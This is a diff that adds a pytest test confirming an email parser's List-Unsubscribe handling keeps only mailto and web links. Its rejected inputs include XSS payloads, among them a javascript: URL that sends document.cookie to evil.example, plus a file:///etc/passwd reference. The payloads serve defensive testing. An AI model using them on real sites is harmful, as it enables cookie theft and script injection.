@@ -174,3 +174,32 @@ def test_sent_at_round_trip_of_generated_date() -> None:
     when = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
     raw = b"From: a@example.com\r\nDate: " + format_datetime(when).encode() + b"\r\n\r\nx\r\n"
     assert parse_message(raw).sent_at == when
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (
+            b"<mailto:leave@example.com>, <https://example.com/u?id=1>",
+            "<mailto:leave@example.com>, <https://example.com/u?id=1>",
+        ),
+        (b"<javascript:fetch('https://evil.example/'+document.cookie)>", None),
+        (b"<JavaScript:alert(1)>, <MAILTO:leave@example.com>", "<MAILTO:leave@example.com>"),
+        (
+            b"<data:text/html,<script>alert(1)</script>>, <http://example.com/u>",
+            "<http://example.com/u>",
+        ),
+        (b"<file:///etc/passwd>, <ftp://example.com/u>, <tel:+1555>", None),
+        (b"< https://example.com/\r\n  unsubscribe?a=1 >", "<https://example.com/unsubscribe?a=1>"),
+        (b"<java\tscript:alert(1)>, <https:>", None),
+        (b"mailto:leave@example.com, javascript:alert(1)", "<mailto:leave@example.com>"),
+        (b"(comment) <https://example.com/u> (another)", "<https://example.com/u>"),
+        (b"<https://example.com/caf\xc3\xa9>", "<https://example.com/caf\u00e9>"),
+        (b"", None),
+    ],
+)
+def test_list_unsubscribe_keeps_only_mail_and_web_targets(
+    value: bytes, expected: str | None
+) -> None:
+    raw = b"From: a@example.com\r\nList-Unsubscribe: " + value + b"\r\n\r\nbody\r\n"
+    assert parse_message(raw).list_unsubscribe == expected
